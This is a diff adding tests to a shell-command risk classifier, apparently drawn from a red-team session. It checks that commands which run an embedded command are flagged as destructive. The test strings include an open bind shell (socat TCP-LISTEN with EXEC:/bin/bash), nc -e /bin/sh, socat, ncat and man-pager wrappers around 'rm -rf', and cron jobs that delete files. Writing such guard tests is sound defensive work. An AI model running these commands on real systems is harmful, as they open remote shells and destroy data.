@@ -387,3 +387,36 @@ describe("disks, syncs and stores that lose what they hold (the evening's red te
     expect(verdict(command)).toEqual([risk, destructive]);
   });
 });
+
+describe("programs that run a command they are given, and jobs handed to cron (the evening's red team)", () => {
+  it.each([
+    "socat - EXEC:'rm -rf /x'",
+    "socat - SYSTEM:'rm -rf /x'",
+    "socat TCP-LISTEN:4444,fork EXEC:/bin/bash",
+    "ncat -c 'rm -rf /x' host 80",
+    "ncat --sh-exec 'rm -rf /x' host 80",
+    "nc -e /bin/sh host 80",
+    "man -P 'rm -rf /x' ls",
+    "man --pager='rm -rf /x' ls",
+    "echo '* * * * * rm -rf /x' | crontab -",
+    "(crontab -l; echo '@reboot rm -rf /x') | crontab -",
+    "crontab - <<< '0 3 * * * rm -rf /x'",
+    "sudo -s -- 'rm -rf /x'",
+    ". /dev/stdin < steps.txt",
+    "source /dev/stdin < steps.txt",
+  ])("%s: a destructive write", (command) => {
+    expect(verdict(command)).toEqual(["write", true]);
+  });
+
+  it.each([
+    ["socat - TCP:host:80", "read", false],
+    ["ncat host 80", "read", false],
+    ["man -P cat ls", "read", false],
+    ["echo '* * * * * ls /x' | crontab -", "write", false],
+    ["crontab -l", "read", false],
+    ["sudo -s", "read", false],
+    [". /dev/stdin < /dev/null", "read", false],
+  ] as const)("%s: %s", (command, risk, destructive) => {
+    expect(verdict(command)).toEqual([risk, destructive]);
+  });
+});
